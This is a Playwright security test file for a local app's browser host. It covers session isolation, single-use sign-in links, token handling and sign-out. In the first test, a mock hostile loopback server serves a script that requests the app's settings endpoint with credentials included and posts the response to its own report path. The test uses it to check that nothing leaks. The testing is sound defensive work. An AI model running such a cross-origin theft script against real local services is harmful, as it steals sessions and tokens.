/**
 * The browser host as the hostile party sees it: another local user's server on another loopback port, a used
 * sign-in address, the launcher file the host hands the opener, a tab whose session was ended (#25.2).
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { expect, indicator, SettingsPage, test } from './fixtures';
import { ask } from '../support/ask';
import { sampleOrder } from '../support/sample-order';

const SENTINEL = 'e2e-service-token';

test('a listener on another loopback port receives no session and no token after redirects', async ({
  page,
  app,
  service,
}) => {
  const seen: string[] = [];
  const hostile = http.createServer((req, res) => {
    seen.push(JSON.stringify({ url: req.url, headers: req.headers }));
    if (req.url === '/bounce') {
      // to the app and back: cookies of 127.0.0.1 would come along on the way back
      res.writeHead(302, { location: `${app.host.url}/` }).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(
      `<!doctype html><title>hostile</title><script>
        fetch(${JSON.stringify(`${app.host.url}/ipc/settings:get`)}, { method: 'POST', credentials: 'include', body: '{}' })
          .then((r) => r.text(), (e) => 'blocked ' + e)
          .then((t) => { document.title = 'done'; return fetch('/report', { method: 'POST', body: t }); });
      </script>`,
    );
  });
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  const address = hostile.address();
  const hostileOrigin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  try {
    await app.connect({ url: service.url, token: SENTINEL });
    const session = await page.evaluate(() => sessionStorage.getItem('shopdesk.session'));
    expect(session).toBeTruthy();

    await page.goto(`${hostileOrigin}/bounce`);
    await expect(indicator(page)).toHaveAccessibleName('Connection: Online'); // the app, still signed in
    await page.goto(`${hostileOrigin}/page`);
    await expect(page).toHaveTitle('done');
    await expect.poll(() => seen.some((s) => s.includes('/report'))).toBe(true);

    expect(seen.length).toBeGreaterThanOrEqual(3);
    for (const request of seen) {
      expect(request).not.toContain(session!);
      expect(request).not.toContain(SENTINEL);
      expect(request).not.toContain('"cookie"');
    }
    expect((await page.context().cookies()).length).toBe(0);
  } finally {
    hostile.close();
  }
});

test('a used sign-in address signs nobody in, and says how to get a new one', async ({ page, app }) => {
  const url = app.host.loginUrl();
  await page.goto(url);
  await expect(page.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();
  // the key left the address at once: not in the location, so not in what history keeps of the page now
  expect(page.url()).not.toContain('login=');

  // the same address in a fresh browser context (another user who saw it) is refused
  const other = await page.context().browser()!.newContext();
  const stranger = await other.newPage();
  await stranger.goto(url);
  await expect(stranger.getByRole('alert')).toContainText('already been used or has expired');
  await expect(stranger.getByRole('heading', { name: 'Welcome to Shopdesk' })).toHaveCount(0);
  await other.close();

  // the same tab keeps its session across a reload
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();
});

test('the launcher file signs in without putting the key in any address', async ({ page, app }) => {
  const file = path.join(app.dataDir, 'launcher-test.html');
  fs.writeFileSync(file, app.host.launcherPage(), { mode: 0o600 });
  const visited: string[] = [];
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame()) visited.push(frame.url());
  });
  await page.goto(`file://${file}`);
  await expect(page.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();
  const key = /name="key" value="([^"]+)"/.exec(fs.readFileSync(file, 'utf8'))![1]!;
  expect(visited.join(' ')).not.toContain(key);
  await new SettingsPage(page).goto();
  await expect(page.getByRole('heading', { level: 1, name: 'Settings' })).toBeVisible();
});

test('another address in Settings asks for its own token and says why; Test sends the saved one nowhere', async ({
  page,
  app,
  service,
}) => {
  await app.connect({ url: service.url, token: SENTINEL });
  const settings = new SettingsPage(page);
  await settings.goto();
  const lookAlike = 'http://127.0.0.1:9';
  await settings.address().fill(lookAlike);
  const why = page.getByRole('note', { name: 'Why the token is asked again' });
  await expect(why).toContainText(`belongs to ${new URL(service.url).origin}`);
  await settings.test();
  await expect(settings.result()).toHaveAttribute('data-verdict', 'token_for_other_address');
  await expect(settings.result()).toContainText('Token needed for this address');
  await app.screenshot('70-settings-token-for-other-address');
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(page.getByRole('alert').filter({ hasText: 'Not saved' })).toContainText('only ever sends a token');
  // back to the saved address: the note goes
  await settings.address().fill(service.url);
  await expect(why).toHaveCount(0);
});

test('sign out and erase: unsent orders are named, and a second confirmation is needed before they are lost', async ({
  page,
  app,
  service,
}) => {
  await app.connect({ url: service.url, token: SENTINEL });
  // an order the service failed to take (500): in doubt, so not sent
  service.faults.add({ fault: { kind: 'status', status: 500 }, method: 'POST', path: '/api/order' });
  await ask(app.core, 'outbox:submit', { draftId: 'erase-e2e-1', order: sampleOrder({ total_price: '77.00' }) });
  await expect.poll(async () => (await ask(app.core, 'outbox:list', {})).entries[0]?.check?.outcome).toBe('none');
  const settings = new SettingsPage(page);
  await settings.goto();
  const section = page.getByRole('region', { name: 'This computer’s data' });
  await expect(section).toContainText('stored encrypted');
  await app.screenshot('71-settings-this-computers-data');
  await section.getByRole('button', { name: 'Sign out and erase this computer’s data' }).click();
  const first = page.getByRole('dialog', { name: 'Sign out and erase?' });
  await expect(first).toContainText('1 order has not been sent');
  await app.screenshot('72-erase-first-confirmation');
  await first.getByRole('button', { name: 'Continue…' }).click();
  const second = page.getByRole('dialog', { name: 'Lose 1 unsent order?' });
  await app.screenshot('73-erase-second-confirmation');
  // keeping everything at the last step loses nothing
  await second.getByRole('button', { name: 'Keep everything' }).click();
  expect((await ask(app.core, 'outbox:list', {})).unsent).toBe(1);
  await section.getByRole('button', { name: 'Sign out and erase this computer’s data' }).click();
  await first.getByRole('button', { name: 'Continue…' }).click();
  await second.getByRole('button', { name: 'Erase 1 unsent order and sign out' }).click();
  await expect(page.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();
  expect((await ask(app.core, 'outbox:list', {})).unsent).toBe(0);
  expect((await ask(app.core, 'settings:get', {})).tokenSet).toBe(false);
});

test('Settings lists the signed-in tabs; ending one signs that tab out at its next step, and Sign out ends this one', async ({
  page,
  app,
}) => {
  await app.open();
  await expect(page.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();
  // a second tab, signed in with its own address
  const other = await page.context().newPage();
  await other.goto(app.host.loginUrl());
  await expect(other.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();

  await new SettingsPage(page).goto();
  const section = page.getByRole('region', { name: 'Signed-in tabs' });
  const rows = section.getByRole('table', { name: 'Signed-in tabs' }).getByRole('row');
  await section.getByRole('button', { name: 'Refresh the list' }).click();
  await expect(rows).toHaveCount(3); // the header and two tabs
  await expect(rows.filter({ hasText: 'This tab' })).toHaveCount(1);
  await expect(rows.filter({ hasText: 'Another tab' })).toHaveCount(1);
  await expect(rows.filter({ hasText: 'This tab' })).toContainText('just now');

  // the other tab's session ended from here: that tab is signed out at its next request
  await section.getByRole('button', { name: /^End the tab signed in/ }).click();
  await expect(section.getByRole('status')).toContainText('Ended: that tab is signed out.');
  await expect(rows).toHaveCount(2);
  await new SettingsPage(other).goto();
  await expect(other.getByRole('alert')).toContainText('This tab has been signed out of Shopdesk');
  await expect(other.getByRole('heading', { level: 1, name: 'Settings' })).toHaveCount(0);
  // a reload does not bring it back
  await other.reload();
  await expect(other.getByRole('alert')).toContainText('not signed in to Shopdesk');
  await other.close();

  // Sign out: this tab's session ends on the host, not only in the tab
  await section.getByRole('button', { name: 'Sign out of this tab' }).click();
  await expect(page.getByRole('alert')).toContainText('This tab has been signed out of Shopdesk');
  await page.reload();
  await expect(page.getByRole('alert')).toContainText('not signed in to Shopdesk');
  // and the host lists no tab any more
  const fresh = await page.context().newPage();
  await fresh.goto(app.host.loginUrl());
  await new SettingsPage(fresh).goto();
  const freshRows = fresh.getByRole('table', { name: 'Signed-in tabs' }).getByRole('row');
  await expect(freshRows).toHaveCount(2);
  await fresh.close();
});
